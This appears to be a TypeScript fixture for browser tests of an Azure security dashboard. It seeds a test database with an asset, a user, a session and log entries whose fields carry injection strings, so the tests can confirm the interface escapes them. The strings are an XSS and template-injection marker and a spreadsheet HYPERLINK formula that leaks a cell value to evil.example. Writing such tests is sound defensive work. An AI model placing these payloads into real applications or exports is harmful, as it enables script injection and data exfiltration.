import { openDatabase } from '#lib/db/index.ts'
import { assetKey } from '#lib/inventory/asset-key.ts'

/** What an attacker writes wherever Azure lets them: it would run where it is not shown as text. */
export const markup = `"'><img src=x onerror="window.hacked=1"><script>window.hacked=1</script>{{7*7}}`
export const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Invoice")'

/** The database of the browser tests. */
const database = { config: { dataFolder: process.env.E2E_DATA ?? '.temper/e2e/demo' }, migrate: false, connections: 1 }

const check = 'storage-minimum-tls'

/**
 * Puts an asset into the database of the browser tests whose name, group, tags, properties and evidence are an
 * attacker's, as a scan would have stored it. No sum counts it, so that other tests see the numbers that they expect.
 */
export async function plantHostileAsset(): Promise<{ key: string; finding: string }> {
  const db = await openDatabase(database)
  try {
    const { rows } = await db.pool.query(
      `select s.id, (select no from check_number where check_id = $1) as no, (select max(observed_at) from scan) as at
       from subscription s order by s.name limit 1`,
      [check],
    )
    const { id: subscription, no, at } = rows[0]
    const id = `/subscriptions/${subscription}/resourceGroups/hostile/providers/microsoft.storage/storageAccounts/${markup}`
    const key = assetKey(id)
    const tags = { [markup]: markup, formula }
    const configuration = {
      id,
      name: markup,
      type: 'microsoft.storage/storageaccounts',
      tags,
      properties: { [markup]: markup, note: formula },
    }
    const evidence = [{ path: `properties.${markup}`, observed: markup, expected: formula }]
    await db.pool.query(
      `insert into asset (key, id, name, type, source, subscription_id, resource_group, location, kind, tags, fingerprint,
         first_seen_at, weight_applicable, weight_passed, failed, unknown)
       values ($1, $2, $3, 'microsoft.storage/storageaccounts', 'resources', $4, $5, $3, $3, $6, 'x', $7, 6, 0, 1, 0)
       on conflict do nothing`,
      [key, id, markup, subscription, formula, JSON.stringify(tags), at],
    )
    await db.pool.query(
      'insert into asset_configuration (asset_key, valid_from, configuration) values ($1, $2, $3) on conflict do nothing',
      [key, at, JSON.stringify(configuration)],
    )
    await db.pool.query(
      `insert into asset_verdicts (asset_key, valid_from, passed, defaulted, failed, unknown) values ($1, $2, '{}', '{}', $3, '{}') on conflict do nothing`,
      [key, at, [no]],
    )
    await db.pool.query(
      `insert into finding (asset_key, check_no, valid_from, status, opened, check_version, weight, subscription_id, asset_type, asset_name, evidence)
       values ($1, $2, $3, 'fail', 'arrived', 1, 6, $4, 'microsoft.storage/storageaccounts', $5, $6) on conflict do nothing`,
      [key, no, at, subscription, markup, JSON.stringify(evidence)],
    )
    return { key, finding: `${key}.${check}` }
  } finally {
    await db.close()
  }
}

/** Puts somebody there whose name, address of mail and browser are an attacker's, and what the logs say of them. */
export async function plantHostilePerson(): Promise<void> {
  const db = await openDatabase(database)
  try {
    const id = '66666666-6666-4666-8666-666666666666'
    await db.pool.query(
      'insert into person (id, name, username, last_seen_at) values ($1, $2, $3, now()) on conflict do nothing',
      [id, markup, formula],
    )
    await db.pool.query(
      `insert into session (id_hash, public_id, person_id, roles, groups, created_at, last_used_at, expires_at,
                            authenticated_at, address, user_agent)
       values (sha256('hostile'), $1, $1, '{Leadership}', '{}', now(), now(), now() + interval '1 hour', now(), $2, $2)
       on conflict do nothing`,
      [id, markup],
    )
    const detail = JSON.stringify({
      path: markup,
      [markup]: formula,
      before: { name: markup },
      after: { name: formula },
    })
    await db.pool.query(
      `insert into security_event (at, kind, person_id, address, detail) values (now(), 'access.denied', $1, $2, $3)`,
      [id, markup, detail],
    )
    await db.pool.query(
      `insert into audit_event (at, actor, action, subject_type, subject_id, detail)
       values (now(), $1, 'workload.change', 'workload', $2, $3)`,
      [id, markup, detail],
    )
  } finally {
    await db.close()
  }
}
